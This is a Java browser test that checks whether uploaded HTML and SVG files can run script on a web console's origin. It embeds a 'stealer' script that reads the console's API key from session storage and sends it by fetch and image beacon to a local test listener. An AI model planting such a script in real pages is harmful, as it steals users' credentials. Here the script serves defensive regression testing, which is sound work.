package dev.avatarvideo.bootstrap;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import dev.avatarvideo.testsupport.MultipartBody;
import dev.avatarvideo.testsupport.WebhookReceiver;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import com.sun.net.httpserver.HttpServer;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.openqa.selenium.By;
import org.openqa.selenium.support.ui.ExpectedConditions;
import org.openqa.selenium.support.ui.WebDriverWait;

/**
 * Issue 11, class 5, in a real browser: a tenant uploads a page with a script as a topic file (HTML, and SVG, which
 * is a page too), then someone signed in to the console opens its {@code fileUrl}, directly and framed in the
 * console. The script would send whatever it can read of the console's session storage to a listener; the listener
 * hears nothing. The same script run on the console's origin reads the key and reaches the listener, so silence
 * means the uploads never ran there.
 */
class UploadedPagesBrowserTest {

    private static final String KEY_STORAGE = "avatar-video-service.apiKey";
    private static final Duration LISTEN = Duration.ofSeconds(4);

    @TempDir
    Path dataDir;
    @TempDir
    Path browserProfile;

    private AvatarVideoService service;
    private HeadlessChromium chromium;
    private WebhookReceiver listener;

    @BeforeEach
    void start() {
        chromium = HeadlessChromium.start(browserProfile, "chromedriver-uploaded-pages.log");
        listener = WebhookReceiver.start();
        service = AvatarVideoService.start(Configuration.fromEnvironment(Map.of(
                "DATA_DIR", dataDir.toString(), "PORT", "0", "SIMULATOR_RENDER_MS", "500")));
    }

    @AfterEach
    void stop() {
        if (chromium != null) {
            chromium.close();
        }
        if (listener != null) {
            listener.close();
        }
        if (service != null) {
            service.close();
        }
    }

    @Test
    void anUploadedPageOpenedFromItsFileUrlRunsNoScriptThatCouldReadTheConsolesKey() throws Exception {
        String key = ApiKeyFiles.defaultKey(dataDir);
        String html = "<!doctype html><html><head><title>upload</title></head><body><p>An uploaded page</p><script>" + stealer("html") + "</script></body></html>";
        String svg = "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"10\" height=\"10\"><script>" + stealer("svg") + "</script></svg>";
        List<String> fileUrls = upload(key, html, svg);

        chromium.browser.get(service.baseUrl() + "/");
        chromium.browser.findElement(By.id("api-key")).sendKeys(key);
        chromium.browser.findElement(By.cssSelector("#sign-in-form button[type=submit]")).click();
        new WebDriverWait(chromium.browser, Duration.ofSeconds(30)).until(ExpectedConditions.visibilityOfElementLocated(By.id("create-form")));
        assertThat(chromium.js("return sessionStorage.getItem(arguments[0]);", KEY_STORAGE)).as("the console keeps the key").isEqualTo(key);

        for (String fileUrl : fileUrls) {
            chromium.browser.get(fileUrl);
            chromium.browser.get(service.baseUrl() + "/console");
            chromium.js("for (const tag of ['iframe', 'object', 'embed']) {"
                    + " const element = document.createElement(tag); element[tag === 'object' ? 'data' : 'src'] = arguments[0];"
                    + " document.body.appendChild(element); }", fileUrl);
        }
        Thread.sleep(LISTEN.toMillis());
        assertThat(listener.received()).as("no uploaded script ran on the console's origin").isEmpty();
        assertThat(chromium.js("return sessionStorage.getItem(arguments[0]);", KEY_STORAGE)).as("still signed in, nothing disturbed").isEqualTo(key);

        // The control: the same script, served as a page of another origin on this machine, runs and reaches the
        // listener (without the key: it is not the console's origin). So the silence above is the uploads never running,
        // not a script that cannot call out. (The console's own policy would stop a script on its origin from calling
        // out, and a page of no origin may not reach loopback, so neither can be the control.)
        HttpServer page = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
        page.createContext("/", exchange -> {
            byte[] body = ("<!doctype html><script>" + stealer("control") + "</script>").getBytes(StandardCharsets.UTF_8);
            exchange.getResponseHeaders().add("Content-Type", "text/html; charset=utf-8");
            exchange.sendResponseHeaders(200, body.length);
            exchange.getResponseBody().write(body);
            exchange.close();
        });
        page.start();
        try {
            chromium.browser.get("http://127.0.0.1:" + page.getAddress().getPort() + "/control");
            listener.awaitReceived(received -> !received.isEmpty(), Duration.ofSeconds(20));
        } finally {
            page.stop(0);
        }
        assertThat(listener.received().getFirst().path()).startsWith("/stolen?from=control&what=").doesNotContain(key);
    }

    /** A script that sends what it can read of the console's stored key (or why it cannot) to the listener. */
    private String stealer(String from) {
        return "var what; try { what = sessionStorage.getItem('" + KEY_STORAGE + "') || 'nothing'; } catch (e) { what = 'refused:' + e.name; }"
                + " fetch('" + listener.url("/stolen") + "?from=" + from + "&what=' + encodeURIComponent(what), {mode: 'no-cors'});"
                + " new Image().src = '" + listener.url("/stolen") + "?from=" + from + "&what=' + encodeURIComponent(what);";
    }

    /** A topic with the page and the picture as its files; answers their fileUrls. */
    private List<String> upload(String key, String html, String svg) throws Exception {
        MultipartBody multipart = new MultipartBody()
                .field("topic", "{\"title\": \"Pages\", \"language\": \"en\", \"contents\": [{\"type\": \"file\", \"part\": \"page\"},"
                        + " {\"type\": \"file\", \"part\": \"picture\"}]}")
                .file("page", "lesson.html", "text/html", html.getBytes(StandardCharsets.UTF_8))
                .file("picture", "diagram.svg", "image/svg+xml", svg.getBytes(StandardCharsets.UTF_8));
        HttpResponse<String> saved = HttpClient.newHttpClient().send(HttpRequest.newBuilder(service.baseUrl().resolve("/api/topics"))
                .header("Authorization", "Bearer " + key).header("Content-Type", multipart.contentType())
                .POST(HttpRequest.BodyPublishers.ofByteArray(multipart.bytes())).build(), HttpResponse.BodyHandlers.ofString());
        assertThat(saved.statusCode()).as(saved.body()).isEqualTo(201);
        JsonNode topic = new ApiCalls(service.baseUrl()).read(saved.body());
        return List.of(topic.at("/contents/0/file/fileUrl").asText(), topic.at("/contents/1/file/fileUrl").asText());
    }
}
